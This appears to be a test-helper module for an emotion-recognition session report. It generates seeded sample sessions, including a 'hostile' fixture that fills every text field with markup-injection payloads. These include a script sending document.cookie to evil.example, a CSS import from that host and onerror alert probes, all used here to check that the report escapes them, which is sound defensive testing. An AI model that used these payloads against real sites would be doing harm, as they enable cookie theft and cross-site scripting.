"""Sessions that a report is made of (lively, hostile, long; seeded, so always the same), and what is read in it."""

from __future__ import annotations

import random
from pathlib import Path
from xml.etree.ElementTree import Element

import html5lib
import msgspec
from helpers.sessions import CHECKPOINT, info, write_session

from livemerc.emotions import LABELS
from livemerc.events import (
    AsrInfo,
    EmotionEvent,
    EmotionStatus,
    Event,
    FinalAsr,
    MicState,
    Modality,
    Probabilities,
    SessionEnd,
    SessionStart,
    Status,
    Timing,
    UtteranceFinal,
)
from livemerc.sessions.corrections import CORRECTIONS_FILE, Correction
from livemerc.sessions.folder import SESSION_FILE, SessionInfo

LEAST_SURE = 0.4
SENTENCES = (
    "I did not expect that at all.",
    "We have been through this before, and it always ends the same way.",
    "Oh, that is wonderful news!",
    "Could you send me the figures by Thursday?",
    "I am so sorry to hear that.",
    "No.",
    "Well, let us see what the others say about it before we decide anything that we cannot take back later.",
    "That is not what you told me last week, and you know it.",
)
HOSTILE_TEXTS = (
    "<script>fetch('https://evil.example/'+document.cookie)</script>",
    "</td></tr></table></style></title><img src=x onerror=alert(1)>",
    "\"><svg/onload=alert(2)><a href='javascript:alert(3)'>click</a>",
    "\u202eright to left override\u202c \u2066isolate\u2069 \x1b[31mred\x1b[0m \x00 \u2028 \ud800",
    "<!-- --> ]]> <![CDATA[ &amp; &#x3c;b&#x3e; {{7*7}} ${7*7} %s {0}",
    "body{background:url(//evil.example/x)} */ } @import 'https://evil.example/y';",
    "שלום עולם مرحبا 🎭👩‍👩‍👧 漢字 é",
    "",
    "x" * 3000,
)
HOSTILE_NAME = 'Eve</b><script>alert(4)</script>" onmouseover="alert(5)'


def start(source: str = "call.wav", labels: tuple[str, ...] = LABELS, model: str | None = "base") -> SessionStart:
    return SessionStart(
        version="0.1.0", labels=list(labels), checkpoint=CHECKPOINT, asr=AsrInfo(engine="faster-whisper", model=model),
        device="cpu", source=source, started_at="2026-01-02T03:04:05+00:00",
    )  # fmt: skip


def spread(chance: random.Random, label: str, confidence: float) -> Probabilities:
    """A distribution with `confidence` for `label`."""
    others = [chance.random() + 0.05 for _ in LABELS]
    rest = sum(o for o, name in zip(others, LABELS, strict=True) if name != label)
    return {
        name: confidence if name == label else (1 - confidence) * other / rest
        for name, other in zip(LABELS, others, strict=True)
    }


def estimate(name: str, status: EmotionStatus, revision: int, p: Probabilities, **changes: object) -> EmotionEvent:
    label = max(p, key=p.__getitem__)
    abstained = "low confidence" if p[label] < LEAST_SURE else None
    event = EmotionEvent(
        utterance_id=name, revision=revision, status=status, label=label, confidence=p[label], abstained=abstained,
        probabilities=p, modality=Modality(text=p, speech=p), timing=Timing(total_ms=900.0 + 10 * revision),
    )  # fmt: skip
    return msgspec.structs.replace(event, **changes)


def lively(utterances: int = 40, seed: int = 1, speakers: tuple[str | None, ...] = ("Ann Lee", "Bob")) -> list[Event]:
    """A conversation with revisions, doubts, gated words, lost audio, a degraded stretch and a deaf microphone."""
    chance = random.Random(seed)
    events: list[Event] = [start()]
    t_s, label = 0.8, "neutral"
    for n in range(utterances):
        length_s = 0.4 + 4 * chance.random()
        if chance.random() < 0.45:
            label = chance.choice(LABELS)
        p = spread(chance, label, 0.28 + 0.65 * chance.random())
        gated = "low probability" if n % 17 == 9 else None
        text = chance.choice(SENTENCES) if n % 13 != 7 else ""
        asr = FinalAsr(engine="faster-whisper", model="base", confidence=0.9, gated=gated)
        events.append(
            UtteranceFinal(
                utterance_id=f"u{n}", start_s=round(t_s, 2), end_s=round(t_s + length_s, 2), text=text,
                speaker=speakers[n % len(speakers) if n % 5 else 0], asr=asr,
            )
        )  # fmt: skip
        events.append(estimate(f"u{n}", "provisional", 0, spread(chance, "neutral", 0.5) if n % 4 == 0 else p))
        events.append(estimate(f"u{n}", "frozen", 1, p))
        lost_s = 0.0 if n < utterances // 3 else 1.7 if n < utterances // 2 else 2.9
        behind = "behind: no partial hypotheses until caught up" if utterances // 2 < n < utterances * 0.6 else None
        mic = MicState(ok=not 0.7 < n / utterances < 0.75, why="the input delivers zeros: it may be muted")
        t_s += length_s + 0.3 + chance.random()
        events.append(Status(t_s=round(t_s, 2), lag_s=0.2, queued={}, dropped_s=lost_s, mic=mic, degraded=behind))
    return [*events, SessionEnd(duration_s=round(t_s, 2), utterances=utterances, dropped_s=2.9)]


def write(folder: Path, events: list[Event], corrections: tuple[Correction, ...] = (), **about: object) -> Path:
    """A session's folder with corrections; `about` changes its session.json."""
    write_session(folder, events)
    if about:
        changed: SessionInfo = msgspec.structs.replace(info(), **about)
        (folder / SESSION_FILE).write_bytes(msgspec.json.encode(changed))
    if corrections:
        (folder / CORRECTIONS_FILE).write_bytes(b"".join(msgspec.json.encode(c) + b"\n" for c in corrections))
    return folder


CORRECTIONS = (
    Correction(utterance_id="u3", emotion="joy", at="2026-01-03T00:00:00+00:00"),
    Correction(utterance_id="u5", text="I did expect that, to be honest.", at="2026-01-03T00:00:00+00:00"),
    Correction(utterance_id="u6", speaker="Ann Lee", at="2026-01-03T00:00:00+00:00"),
)


def hostile() -> list[Event]:
    """Markup, overrides and nonsense in every field that is text. (A lone surrogate cannot be in a journal.)"""
    chance = random.Random(3)
    nasty = HOSTILE_TEXTS[1]
    labels = (*LABELS, "</style><script>alert(6)</script>", 'x" onclick="alert(7)')
    first = start(source=nasty, labels=labels, model=HOSTILE_TEXTS[2])
    events: list[Event] = [
        msgspec.structs.replace(
            first,
            checkpoint=msgspec.structs.replace(CHECKPOINT, id=nasty, sha256='"><b>', licence=HOSTILE_TEXTS[0]),
            started_at="<b>now</b>",
        )
    ]
    for n, text in enumerate(HOSTILE_TEXTS * 2):
        text = text.encode("utf-8", "replace").decode()
        p = spread(chance, LABELS[n % len(LABELS)], 0.3 + 0.03 * n)
        if n % 5 == 3:
            p = {**dict.fromkeys(LABELS, 0.02), labels[-2]: 0.8, labels[-1]: 0.06}
        reason = "<i onclick=alert(8)>doubt</i>" if n % 4 == 1 else None
        asr = FinalAsr(engine="x", gated="<u>gated</u>" if n % 6 == 2 else None)
        speaker = (HOSTILE_NAME, "\u202eBob", None)[n % 3]
        name = f'u{n}"><script>alert(9)</script>'
        events.append(
            UtteranceFinal(utterance_id=name, start_s=3.0 * n, end_s=3.0 * n + 2, text=text, speaker=speaker, asr=asr)
        )
        events.append(estimate(name, "frozen", 0, p, abstained=reason))
        wrong = "<script>alert(10)</script>" if n == 4 else None
        mic = MicState(ok=n != 6, why="<img src=x onerror=alert(11)>")
        events.append(Status(t_s=3.0 * n + 2.5, lag_s=0, queued={}, dropped_s=0.1 * n, mic=mic, degraded=wrong))
    return events


def three_hours(utterances: int = 5000) -> list[Event]:
    """5,000 utterances in three hours, with two statuses a second."""
    chance = random.Random(7)
    events: list[Event] = [start()]
    every_s = 3 * 3600 / utterances
    for n in range(utterances):
        begin_s = n * every_s
        p = spread(chance, chance.choice(LABELS), 0.25 + 0.7 * chance.random())
        text = " ".join(chance.sample(SENTENCES, 2))
        speaker = ("Ann Lee", "Bob", "Carol", None)[n % 4]
        asr = FinalAsr(engine="faster-whisper", confidence=0.8)
        events.append(
            UtteranceFinal(
                utterance_id=f"u{n}", start_s=begin_s, end_s=begin_s + 1.6, text=text, speaker=speaker, asr=asr
            )
        )
        events += [estimate(f"u{n}", "provisional", 0, p), estimate(f"u{n}", "frozen", 1, p)]
        events += [Status(t_s=begin_s + 0.5 * s, lag_s=0.1, queued={"asr": 0}) for s in range(4)]
    return [*events, SessionEnd(duration_s=3 * 3600.0, utterances=utterances)]


def shown(document: str, part: str = "") -> str:
    """The text that a reader sees in the element of that id."""
    root = html5lib.HTMLParser(namespaceHTMLElements=False).parse(document)
    return " ".join(_text(next(e for e in root.iter() if e.get("id") == part) if part else root.find("body")).split())


def _text(element: Element | None) -> str:
    assert element is not None
    return "".join(element.itertext())
